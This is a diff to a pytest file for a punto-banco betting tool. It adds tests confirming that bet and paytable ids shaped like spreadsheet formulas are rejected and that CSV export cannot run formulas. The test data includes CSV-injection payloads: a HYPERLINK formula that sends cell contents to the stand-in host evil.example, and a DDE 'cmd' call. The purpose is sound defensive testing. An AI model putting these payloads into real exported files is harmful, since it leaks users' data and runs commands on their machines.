@@ -431,8 +431,10 @@ def test_century21_joker_values_repeated_are_refused(tmp_path: Path, capsys, val
 
 
 # --- CSV injection ------------------------------------------------------------------------------
-HOSTILE_NAMES = {"b": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "p": "+cmd|' /C calc'!A0",
-                 "e": "-2+3", "f": "@SUM(1+1)"}
+# ids (bet, paytable) are ASCII letters, digits and - _ . % (=HYPERLINK(...) or +cmd|... are
+# refused as ids, see test_formula_ids_are_refused_as_ids); one starting with "-" is a formula
+HOSTILE_NAMES = {"b": "-2-HYPERLINK", "p": "-cmd.A0", "e": "-2+3", "f": "@SUM(1+1)"}
+FORMULA_IDS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0")
 
 
 def _named_bet(names: dict[str, str]) -> str:
@@ -441,6 +443,15 @@ def _named_bet(names: dict[str, str]) -> str:
             f'[[bet.event]]\nname = {quoted["e"]}\nwhen = "winner == \'tie\'"\npays = 8\n'
             f'[[bet.event]]\nname = {quoted["f"]}\nwhen = "winner == \'banker\'"\n'
             'pays = "lose"\n')
+
+
+def test_formula_ids_are_refused_as_ids() -> None:
+    game = get_game("punto-banco")
+    for formula in FORMULA_IDS:
+        for key in ("b", "p"):
+            names = {"b": "tie-bet", "p": "standard", "e": "Tie", "f": "Banker", key: formula}
+            with pytest.raises(BetFileError, match="ids are ASCII letters"):
+                load_bets("m.toml", game.features, text=_named_bet(names))
 
 
 def test_csv_text_cells_cannot_run_as_formulas_and_numbers_are_unchanged() -> None:
